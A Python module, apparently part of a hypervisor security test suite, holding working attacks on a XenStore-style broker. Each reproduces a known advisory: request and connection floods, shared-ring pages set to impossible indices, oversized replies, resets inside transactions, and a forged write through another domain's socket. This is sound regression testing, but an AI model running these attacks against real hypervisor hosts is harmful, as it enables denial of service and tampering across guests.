"""Attacks on XenStore by its own protocol: a domain's socket, others' sockets, and its ring."""

from __future__ import annotations

import contextlib
import mmap
import socket
import time
from collections.abc import Callable
from typing import Any, NoReturn

from hvd.domains.guest import Guest
from hvd.transport import messages as m
from hvd.transport import xs_wire
from hvd.transport.channels import open_endpoint
from hvd.transport.errors import HvdError
from hvd.transport.multicall import ask_all
from hvd.transport.run_dir import STORE_SOCKET
from hvd.transport.xs_wire import Type, pack, strings

KEPT: list[Any] = []
SOCKET = f"/run/hvd/{STORE_SOCKET}"
VALUE_BYTES, WATCHES_MAX, FULL_S = 1900, 112, 0.3
FLOOD, ASKED_S, LOOK_AGAIN_S = 2000, 5.0, 0.001
REQUEST = pack(Type.READ, 0, 0, b"data\0")
NONSENSE = b"\xff" * xs_wire.RING_BYTES
RINGS: tuple[tuple[bytes, dict[int, int]], ...] = (
    (REQUEST, {xs_wire.REQ_PROD_AT: 5000}),
    (REQUEST, {xs_wire.REQ_PROD_AT: 2**32 - 5}),
    (REQUEST, {xs_wire.REQ_PROD_AT: len(REQUEST), xs_wire.RSP_CONS_AT: 7}),
    (REQUEST, {xs_wire.REQ_PROD_AT: len(REQUEST), xs_wire.RSP_CONS_AT: 2**31}),
    (NONSENSE, {xs_wire.REQ_PROD_AT: len(NONSENSE)}),
)
"""What is put into the ring, and which words are set: to what cannot be, but for the last."""


def connect(path: str = SOCKET) -> socket.socket:
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(FULL_S)
    connection.connect(path)
    return connection


def read_nothing(guest: Guest, connections: str, nodes: str) -> str:
    """XSA-326, XSA-416: on each connection as many requests as it takes, and watches that fire on so many nodes."""
    store, call = guest.runtime.store, guest.runtime.hypercalls.call
    store.write("data/read", "x" * VALUE_BYTES)
    read, sent = pack(Type.READ, 0, 0, b"data/read\0"), 0
    for _ in range(int(connections)):
        connection = connect()
        for number in range(WATCHES_MAX // int(connections)):
            connection.sendall(pack(Type.WATCH, 0, 0, strings(b"data", b"%d" % number)))
        KEPT.append(connection)
        with contextlib.suppress(TimeoutError, OSError):
            while True:
                connection.sendall(read)
                sent += 1
    for first in range(0, int(nodes), 50):
        with contextlib.suppress(HvdError):
            ask_all(call, [m.StoreWrite(0, f"data/{number}", b"1") for number in range(first, first + 50)])
    return f"sent {sent} requests on {len(KEPT)} connections"


def break_ring(guest: Guest) -> str:
    """XSA-38: indices that cannot be, and messages that are too long; what the ring's `error` word says each time."""
    port, (page, words, rx, tx) = guest.runtime.hypercalls.call(m.StoreRing())
    memory = mmap.mmap(page, mmap.PAGESIZE)
    endpoint = open_endpoint(words, port["side"], rx, tx)
    errors = []
    for content, values in RINGS:
        _set(memory, xs_wire.CONNECTION_AT, xs_wire.RECONNECT)
        endpoint.notify()
        _wait(lambda: _word(memory, xs_wire.CONNECTION_AT) == xs_wire.CONNECTED)
        memory[: len(content)] = content
        for at, value in reversed(values.items()):
            _set(memory, at, value)
        endpoint.notify()
        _wait(lambda: _word(memory, xs_wire.ERROR_AT) != xs_wire.RingError.NONE)
        errors.append(xs_wire.RingError(_word(memory, xs_wire.ERROR_AT)).name)
    return f"{len(errors)} times: {' '.join(errors)}"


def ask_for_long_replies(guest: Guest, path: str) -> str:
    """XSA-72: a directory whose names are more than a message holds, whole and in parts; how long the answers were."""
    connection, lengths = connect(), []
    for kind, rest in ((Type.DIRECTORY, ()), (Type.READ, ()), (Type.GET_PERMS, ()),
                       *((Type.DIRECTORY_PART, (b"%d" % offset,)) for offset in (0, 4000, 2**32, 2**64))):  # fmt: skip
        lengths.append(len(_ask(connection, kind, 0, strings(path.encode(), *rest)).payload))
    with contextlib.suppress(HvdError):
        guest.runtime.hypercalls.call(m.StoreDirectory(0, path))
    return f"was answered in {lengths} bytes"


def reset_in_transactions(guest: Guest, rounds: str) -> str:
    """XSA-484: a reset inside a transaction, beside others that are open; all are used when it is done."""
    connection, ended, ids = connect(), 0, []
    for number in range(int(rounds)):
        begun = [_ask(connection, Type.TRANSACTION_START, 0, b"\0") for _ in range(3)]
        ids = [int(answer.payload.rstrip(b"\0")) for answer in begun if answer.type == Type.TRANSACTION_START]
        _ask(connection, Type.WATCH, 0, strings(b"data", b"t"))
        for tx in ids:
            _ask(connection, Type.WRITE, tx, b"data/planted\0" + b"1")
        for tx in (*ids[number % 3 :], 0, 2**32 - 1):
            _ask(connection, Type.RESET_WATCHES, tx, b"\0")
        for tx in ids:
            ended += _ask(connection, Type.TRANSACTION_END, tx, b"T\0").type == Type.TRANSACTION_END
    return f"ended {ended} transactions behind {rounds} resets, and began {len(ids)} at last"


def _ask(connection: socket.socket, kind: Type, tx: int, payload: bytes) -> xs_wire.Message:
    """The answer to this request; PeerFault if it is longer than a message may be."""
    connection.sendall(pack(kind, 1, tx, payload))
    data = b""
    while True:
        while (found := xs_wire.split(data, 0)) is None:
            if not (more := connection.recv(1 << 16)):
                raise ConnectionError("the broker hung up")
            data += more
        message, end = found
        if message.type != Type.WATCH_EVENT:
            return message
        data = data[end:]


def _wait(condition: Callable[[], bool]) -> None:
    """Without the runtime, which knows nothing of this ring."""
    until = time.monotonic() + ASKED_S
    while not condition():
        if time.monotonic() > until:
            raise TimeoutError("the broker does not speak to it any more")
        time.sleep(LOOK_AGAIN_S)


def _word(memory: mmap.mmap, at: int) -> int:
    return int.from_bytes(memory[at : at + 4], "little")


def _set(memory: mmap.mmap, at: int, value: int) -> None:
    memory[at : at + 4] = value.to_bytes(4, "little")


def write_by(guest: Guest, path: str) -> str:
    """At a socket that is another domain's: a node of its."""
    connection = connect(path)
    connection.sendall(pack(Type.WRITE, 0, 0, b"data/forged\0" + b"1"))
    return f"answered: {connection.recv(4096)!r}"


def flood(guest: Guest) -> str:
    """As many connections as a process can have, and more: they are kept."""
    refused = 0
    for _ in range(FLOOD):
        try:
            KEPT.append(connect())
        except OSError:
            refused += 1
    return f"{len(KEPT)} connections, {refused} refused"


def ask_once(guest: Guest) -> str:
    guest.runtime.store.write("data/asked", "1")
    connection = connect()
    connection.sendall(pack(Type.READ, 0, 0, b"data/asked\0"))
    return f"was told {connection.recv(4096)[-1:].decode()}"


def ask_for_ever(guest: Guest) -> NoReturn:
    """One request after the other."""
    connection, read = connect(), pack(Type.READ, 0, 0, b"data\0")
    while True:
        connection.sendall(read)
        connection.recv(4096)


def connect_for_ever(guest: Guest) -> NoReturn:
    """Connections that say nothing and go."""
    while True:
        with contextlib.suppress(OSError):
            connect().close()
